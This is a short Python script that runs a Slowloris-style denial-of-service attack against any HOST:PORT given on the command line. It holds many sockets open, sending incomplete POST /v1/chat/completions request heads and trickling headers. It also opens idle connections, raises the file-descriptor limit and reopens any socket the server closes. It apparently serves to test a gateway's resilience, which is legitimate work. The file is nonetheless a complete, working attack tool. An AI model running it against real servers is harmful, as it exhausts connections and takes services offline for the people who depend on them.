#!/usr/bin/env python3
"""Holds attacker connections open against HOST:PORT until killed.

  attack.py HOST:PORT --slowloris N --idle M [--trickle SECONDS]

Slowloris sockets send a request line, then one header line every --trickle seconds, never
finishing the head; idle sockets connect and send nothing. A socket the gateway closes is
reopened (what a real attacker does), and the count of reopenings is printed on exit.
"""
import argparse
import resource
import signal
import socket
import sys
import time


def main():
    p = argparse.ArgumentParser()
    p.add_argument("addr")
    p.add_argument("--slowloris", type=int, default=0)
    p.add_argument("--idle", type=int, default=0)
    p.add_argument("--trickle", type=float, default=5.0)
    a = p.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    host, port = a.addr.rsplit(":", 1)
    target = (host, int(port))
    socks = []  # (socket, kind)
    reopened = 0

    def open_one(kind):
        s = socket.create_connection(target)
        s.setblocking(False)
        if kind == "slowloris":
            s.send(b"POST /v1/chat/completions HTTP/1.1\r\nhost: nines\r\n")
        return s

    for kind, n in (("slowloris", a.slowloris), ("idle", a.idle)):
        for _ in range(n):
            try:
                socks.append([open_one(kind), kind])
            except OSError:
                time.sleep(0.005)
    print(f"holding {len(socks)} sockets", flush=True)
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))
    i = 0
    while not stop:
        time.sleep(a.trickle)
        for entry in socks:
            s, kind = entry
            try:
                if s.recv(1, socket.MSG_PEEK) == b"":
                    raise OSError("closed")
            except BlockingIOError:
                pass
            except OSError:
                try:
                    entry[0] = open_one(kind)
                    reopened += 1
                except OSError:
                    pass
                continue
            if kind == "slowloris":
                try:
                    s.send(f"x-pad-{i}: 1\r\n".encode())
                except OSError:
                    pass
        i += 1
    print(f"reopened {reopened}", flush=True)


if __name__ == "__main__":
    sys.exit(main())
